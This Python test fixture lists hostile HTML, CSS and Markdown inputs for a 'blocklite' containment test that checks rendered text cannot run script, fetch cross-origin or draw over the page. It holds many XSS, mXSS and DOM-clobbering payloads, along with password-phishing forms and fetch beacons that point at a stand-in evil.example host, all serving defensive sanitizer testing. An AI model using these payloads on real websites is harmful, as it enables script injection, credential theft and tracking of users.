"""Hostile values a visitor, a handler or an example could put in any text a blocklite app shows.

Why it exists: the containment test (tests/browser/test_containment.py) pushes every value here
through every component that shows text and asserts that none of them runs script, fetches from
another origin (beyond plain remote images, and nothing at all when the page is offline), or draws
outside its component. The values are grouped by the trick they try; every payload that could run
code bumps `window.__pwned`, every one that could fetch points at `REMOTE` (never 127.0.0.1).
"""

from __future__ import annotations

REMOTE = "http://evil.example"
PWN = "window.__pwned=(window.__pwned||0)+1"

#: Style rules: hide or restyle the host page.
STYLE = [
    "x<style>*{display:none!important}</style>",
    "<style>*{display:none!important}</style>leading style",
    "<style>#host-sentinel{visibility:hidden}</style>",
    "<style>body{background:red!important}</style>",
    "<svg><style>*{display:none!important}</style></svg>",
    "<svg><style>#host-sentinel{opacity:0}</style><circle r=5></circle></svg>",
    "<math><style>*{display:none}</style></math>",
    "<STYLE>*{display:none}</STYLE>",
    "<style media=all>body *{visibility:hidden}</style>",
    "<noscript><style>*{display:none}</style></noscript>",
    "<template><style>*{display:none}</style></template>",
    "<link rel=stylesheet href=" + REMOTE + "/evil.css>",
    "<link rel=preload as=style href=" + REMOTE + "/pre.css>",
    "<link rel=prefetch href=" + REMOTE + "/prefetch>",
    "<link rel=icon href=" + REMOTE + "/favicon.ico>",
    "<style>@import url(" + REMOTE + "/import.css);</style>",
    "<style>@font-face{font-family:x;src:url(" + REMOTE + "/font.woff)}</style>",
    "<svg><style>@import '" + REMOTE + "/svg-import.css';</style></svg>",
    "<div><style>.blocklite-app{display:none}</style></div>",
    "<table><style>*{display:none}</style></table>",
    "```\nfenced is fine\n```\n<style>*{display:none}</style>",
    "<p>unclosed <style>*{display:none}",
]

#: Overlays: paint over the host page.
OVERLAY = [
    '<div style="position:fixed;inset:0;z-index:2147483647;background:red">overlay</div>',
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#000">x</div>',
    '<div style="position:sticky;top:0;z-index:99999;background:red;height:3000px">sticky</div>',
    '<div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px;background:red">abs</div>',
    '<div style="margin-top:-10000px;height:20000px;background:red">neg margin</div>',
    '<div style="margin-left:-5000px;width:10000px;height:2000px;background:red">neg left</div>',
    '<div style="transform:translate(-2000px,-2000px) scale(50);background:red">transform</div>',
    '<div style="translate:-3000px -3000px;scale:40;background:red">translate</div>',
    '<div style="position:relative;top:-3000px;height:6000px;background:red">rel</div>',
    '<span style="display:block;position:fixed;bottom:0;right:0;left:0;top:0;background:red">span</span>',
    '<img src=x style="position:fixed;inset:0;width:100vw;height:100vh">',
    '<svg style="position:fixed;inset:0;width:100vw;height:100vh"><rect width=100% height=100% fill=red></rect></svg>',
    '<svg width=5000 height=5000 style="margin:-2500px"><rect width=5000 height=5000 fill=red></rect></svg>',
    '<svg transform="translate(-3000,-3000) scale(100)"><rect width=100 height=100 fill=red></rect></svg>',
    '<div style="outline:100000px solid red">outline</div>',
    '<div style="box-shadow:0 0 0 100000px red">shadow</div>',
    '<div style="filter:drop-shadow(0 0 5000px red)">filter</div>',
    '<div style="clip-path:inset(-1000px)">clip</div>',
    '<div style="text-indent:-99999px">indent</div>',
    '<div style="z-index:2147483647;position:fixed;top:0;left:0;right:0;height:80px;background:red">bar</div>',
    '<dialog open style="position:fixed;inset:0">dialog</dialog>',
    '<div popover=manual id=pop style="inset:0">popover</div>',
    '<div style="position:fixed !important;inset:0 !important;background:red">important</div>',
    '<div style="POSITION:FIXED;INSET:0;BACKGROUND:RED">upper</div>',
    '<div style="position:/**/fixed;inset:0;background:red">comment</div>',
    '<div style="position:f\\ixed;inset:0;background:red">escape</div>',
    '<div style="inset:0;position:fixed;background:red;width:calc(100vw + 1px)">calc</div>',
    '<div style="margin:calc(-1 * 9999px);background:red">calc margin</div>',
    '<div style="animation:spin 1s infinite">anim</div>',
    '<div style="will-change:transform;transform:rotate(45deg) scale(60)">rot</div>',
    '<div style="float:left;margin-top:-4000px;height:8000px;background:red">float</div>',
    '<div style="width:100vw;height:100vh;background:red;display:block">big</div>',
    '<marquee style="position:fixed;inset:0">marquee</marquee>',
    '<div style="contain:none;position:fixed;inset:0;background:red">contain</div>',
    '<div style="content-visibility:visible;position:fixed;inset:0;background:red">cv</div>',
    '<center style="position:fixed;top:0;width:100%;background:red">center</center>',
]

#: Forms, controls and password phishing.
FORMS = [
    "<form action=" + REMOTE + "/steal method=post><input type=password name=pw>"
    "<button>Log in</button></form>",
    "<form action=" + REMOTE + "/s><input name=user value=x><input type=submit></form>",
    "<input type=password placeholder='Your password'>",
    "<button formaction=" + REMOTE + "/fa form=f>click</button>",
    "<input type=image src=" + REMOTE + "/btn.png formaction=" + REMOTE + "/x>",
    "<select name=s><option>a</option></select>",
    "<textarea name=t>text</textarea>",
    "<isindex action=" + REMOTE + "/isindex>",
    "<form id=test><input name=action value=" + REMOTE + "></form>",
    "<input type=hidden name=csrf value=1>",
    "<input type=text autofocus onfocus=" + PWN + ">",
    "<button type=submit form=nope>submit</button>",
    "<keygen name=k>",
    "<label for=name>label steals focus</label>",
    "<fieldset><legend>pw</legend><input type=password></fieldset>",
    "- [x] task list item\n- [ ] another",
]

#: Page-level elements: base, meta, frames, objects.
PAGE = [
    "<base href=" + REMOTE + "/>",
    "<base target=_top>",
    "<meta http-equiv=refresh content='0;url=" + REMOTE + "/refresh'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "<meta name=viewport content='width=10'>",
    "<iframe src=" + REMOTE + "/frame></iframe>",
    "<iframe srcdoc='<script>parent." + PWN + "</script>'></iframe>",
    "<iframe src='javascript:parent." + PWN + "'></iframe>",
    "<object data=" + REMOTE + "/obj.swf></object>",
    "<embed src=" + REMOTE + "/embed.swf>",
    "<frameset><frame src=" + REMOTE + "/f></frameset>",
    "<applet code=x></applet>",
    "<portal src=" + REMOTE + "/portal></portal>",
    "<title>hijacked title</title>",
    "<html><head><style>*{display:none}</style></head><body>doc</body></html>",
    "<body onload=" + PWN + ">",
]

#: Script and event handlers.
SCRIPT = [
    "<script>" + PWN + "</script>",
    "<script src=" + REMOTE + "/x.js></script>",
    "<img src=x onerror=" + PWN + ">",
    "<svg onload=" + PWN + ">",
    "<svg><script>" + PWN + "</script></svg>",
    "<body onpageshow=" + PWN + ">",
    "<details open ontoggle=" + PWN + ">",
    "<video><source onerror=" + PWN + "></video>",
    "<audio src=x onerror=" + PWN + ">",
    "<div onmouseover=" + PWN + " style='width:100%;height:50px'>hover</div>",
    "<marquee onstart=" + PWN + ">",
    "<input onfocus=" + PWN + " autofocus>",
    "<select autofocus onfocus=" + PWN + ">",
    "<iframe onload=" + PWN + "></iframe>",
    "<a href=# onclick=" + PWN + ">click</a>",
    "<img src=x:x onerror=" + PWN + " alt=>",
    "<svg><animate onbegin=" + PWN + " attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=" + PWN + ">",
    "<style onload=" + PWN + "></style>",
    "<object data='javascript:" + PWN + "'>",
    "<img src=1 onerror=\"eval(atob('d2luZG93Ll9fcHduZWQ9MQ=='))\">",
    "<div style=\"background:url('javascript:" + PWN + "')\">x</div>",
    "<x onclick=" + PWN + ">custom</x>",
    "<image src=x onerror=" + PWN + ">",
    "<body><img src=x onerror=" + PWN + "></body>",
    "<scr<script>ipt>" + PWN + "</scr</script>ipt>",
]

#: javascript:/data:/vbscript: URLs.
URLS = [
    "<a href='javascript:" + PWN + "'>js link</a>",
    "<a href='JaVaScRiPt:" + PWN + "'>mixed case</a>",
    "<a href='&#106;avascript:" + PWN + "'>entity</a>",
    "<a href='java\tscript:" + PWN + "'>tab</a>",
    "<a href=' javascript:" + PWN + "'>space</a>",
    "<a href='data:text/html,<script>" + PWN + "</script>'>data html</a>",
    "<a href='vbscript:msgbox(1)'>vb</a>",
    "[md js](javascript:" + PWN.replace("(", "%28").replace(")", "%29") + ")",
    "[md data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img js](javascript:" + PWN.replace("(", "%28").replace(")", "%29") + ")",
    "<img src='javascript:" + PWN + "'>",
    "<iframe src='data:text/html,<script>parent." + PWN + "</script>'></iframe>",
    "<embed src='data:image/svg+xml,<svg onload=" + PWN + ">'>",
    "<object data='data:text/html,<script>" + PWN + "</script>'></object>",
    "<svg><a href='javascript:" + PWN + "'><text y=20>svg link</text></a></svg>",
    "<svg><a xlink:href='javascript:" + PWN + "'><text y=20>xlink</text></a></svg>",
    "<math href='javascript:" + PWN + "'>math</math>",
    "<form action='javascript:" + PWN + "'><button>go</button></form>",
    "<a href='" + REMOTE + "/phish' target=_self>same tab</a>",
    "<a href='" + REMOTE + "/ping' ping='" + REMOTE + "/ping-beacon'>ping</a>",
]

#: mXSS and parser-confusion classics.
MXSS = [
    '<noscript><p title="</noscript><img src=x onerror=' + PWN + '>">',
    '<svg></p><style><a id="</style><img src=1 onerror=' + PWN + '>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=" + PWN + "></style>",
    '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror='
    + PWN
    + ' src>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=" + PWN + ">",
    "<svg><foreignObject><img src=x onerror=" + PWN + "></foreignObject></svg>",
    "<svg><desc><img src=x onerror=" + PWN + "></desc></svg>",
    "<svg><title><img src=x onerror=" + PWN + "></title></svg>",
    "<listing>&lt;img src=x onerror=" + PWN + "&gt;</listing>",
    "<xmp><img src=x onerror=" + PWN + "></xmp>",
    "<textarea><img src=x onerror=" + PWN + "></textarea>",
    "<template><img src=x onerror=" + PWN + "></template>",
    "<!--<img src=x onerror=" + PWN + ">-->",
    "<!-- --!><img src=x onerror=" + PWN + "> -->",
    "<![CDATA[<img src=x onerror=" + PWN + ">]]>",
    "<?xml version='1.0'?><img src=x onerror=" + PWN + ">",
    "<a title='\"><img src=x onerror=" + PWN + ">'>attr</a>",
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=' + PWN + '>"></svg>',
    "<table><tr><td><style>*{display:none}</style></td></tr></table>",
    "<select><template><style>*{display:none}</style></template></select>",
    '<div id="<img src=x onerror=' + PWN + '>">id</div>',
    "&lt;script&gt;" + PWN + "&lt;/script&gt;",
    "\u202e<img src=x onerror=" + PWN + ">",
    "<img src=x on\x00error=" + PWN + ">",
    "<svg><p><style><img src=x onerror=" + PWN + "></style></p></svg>",
]

#: DOM clobbering of the host page's globals.
CLOBBER = [
    "<img name=blocklite>",
    "<form name=blocklite><input name=apps></form>",
    "<a id=__pwned href=x>clobber flag</a>",
    "<div id=host-sentinel>fake sentinel</div>",
    "<img name=getElementById>",
    "<form id=location></form>",
    "<a id=defaultView></a><a id=defaultView name=cookie href=x>x</a>",
    "<img id=body name=body>",
    "<iframe name=top></iframe>",
    "<embed name=alert>",
    "<object id=document></object>",
    "<img name=currentScript src=x>",
    "<a id=CONFIG name=CONFIG href='" + REMOTE + "/cfg'>cfg</a>",
    "<div id=app-1>fake app root</div>",
    "<input name=attributes>",
    "<form><input name=nodeName></form>",
    "<svg><a id=x><text>svg id</text></a></svg>",
    "<map name=x><area href=" + REMOTE + "/area shape=rect coords=0,0,999,999></map>",
]

#: Fetch beacons: CSS url(), SVG references, media.
BEACONS = [
    '<div style="background-image:url(' + REMOTE + '/bg.png)">bg</div>',
    "<div style=\"background:url('" + REMOTE + "/bg2.png') red\">bg2</div>",
    '<div style="list-style-image:url(' + REMOTE + '/li.png)">li</div>',
    '<div style="cursor:url(' + REMOTE + '/cur.cur),auto">cursor</div>',
    '<div style="border-image:url(' + REMOTE + '/b.png) 30">border</div>',
    '<div style="mask-image:url(' + REMOTE + '/m.png)">mask</div>',
    "<div style=\"background-image:image-set('" + REMOTE + "/s.png' 1x)\">set</div>",
    '<div style="background-image:u\\72l(' + REMOTE + '/esc.png)">escaped</div>',
    '<div style="content:url(' + REMOTE + '/c.png)">content</div>',
    "<svg><image href=" + REMOTE + "/svg-image.png width=10 height=10></image></svg>",
    "<svg><image xlink:href=" + REMOTE + "/svg-xlink.png width=10 height=10></image></svg>",
    "<svg><use href=" + REMOTE + "/sprite.svg#a></use></svg>",
    "<svg><use xlink:href=" + REMOTE + "/sprite2.svg#b></use></svg>",
    "<svg><rect fill='url(" + REMOTE + "/fill.svg#g)' width=10 height=10></rect></svg>",
    "<svg><feImage href=" + REMOTE + "/fe.png></feImage></svg>",
    "<video src=" + REMOTE + "/v.mp4 autoplay></video>",
    "<video poster=" + REMOTE + "/poster.png></video>",
    "<audio src=" + REMOTE + "/a.mp3 autoplay></audio>",
    "<video><source src=" + REMOTE + "/s.mp4></video>",
    "<video><track src=" + REMOTE + "/t.vtt></video>",
    "<picture><source srcset=" + REMOTE + "/p.webp><img src=local.png alt=pic></picture>",
    "<input type=image src=" + REMOTE + "/input.png>",
    "<body background=" + REMOTE + "/body.png>",
    "<table background=" + REMOTE + "/table.png><tr><td>t</td></tr></table>",
    "<img dynsrc=" + REMOTE + "/dyn.avi lowsrc=" + REMOTE + "/low.png>",
    "<img src=data:image/png;base64,iVBORw0KGgo= alt='data image is local'>",
]

#: Plain remote images: the only remote fetch allowed, and only while the page is online.
REMOTE_IMAGES = [
    "![remote md image](" + REMOTE + "/md.png)",
    "<img src=" + REMOTE + "/html.png alt='remote html image'>",
    "<img srcset='" + REMOTE + "/srcset.png 1x, " + REMOTE + "/srcset2.png 2x' alt=srcset>",
    "<img src=" + REMOTE + "/noalt.png>",
    "[![linked image](" + REMOTE + "/linked.png)](" + REMOTE + "/)",
]

#: Unbalanced markup that tries to swallow or restyle the next chat message.
UNBALANCED = [
    "<div>",
    "</div></div></div><div class=blocklite-chat-message>fake message",
    "<table><tr><td>",
    "<details open><summary>swallow</summary>",
    "<!--",
    "<pre>",
    "<a href=" + REMOTE + "/unclosed>unclosed link",
    "<b><i><u>unclosed formatting",
    "<ul><li>unclosed list",
    "<select>",
    "<textarea>",
    "<title>",
    "<plaintext>",
    "<noembed>",
    "```\nunclosed fence",
    "<svg>",
    "<math>",
    "</p></span></div></li></ul></ol></table></section></main></body></html>",
    "<span class='blocklite-chat-message blocklite-toast' style='font-size:1px'>class borrow</span>",
    "<div class=blocklite-app>nested app class</div>",
]

#: Inline styles that only style their own element: these must keep working.
BENIGN_STYLES = [
    '<p style="text-align:center;color:#c00">centred red</p>',
    '<span style="font-weight:bold;font-family:serif;font-size:18px">font</span>',
    '<div style="margin:8px;padding:4px 8px;border:1px solid #888;background-color:#eef">box</div>',
]

HOSTILE: list[str] = (
    STYLE
    + OVERLAY
    + FORMS
    + PAGE
    + SCRIPT
    + URLS
    + MXSS
    + CLOBBER
    + BEACONS
    + REMOTE_IMAGES
    + UNBALANCED
)
